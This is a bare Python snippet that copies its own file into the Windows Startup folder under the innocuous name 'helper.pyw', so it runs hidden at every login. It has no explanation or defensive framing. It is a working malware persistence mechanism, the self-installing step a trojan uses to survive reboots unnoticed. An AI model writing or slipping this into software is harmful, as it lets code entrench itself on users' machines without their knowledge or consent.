import os
import shutil

startup = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup")
shutil.copy(__file__, os.path.join(startup, "helper.pyw"))
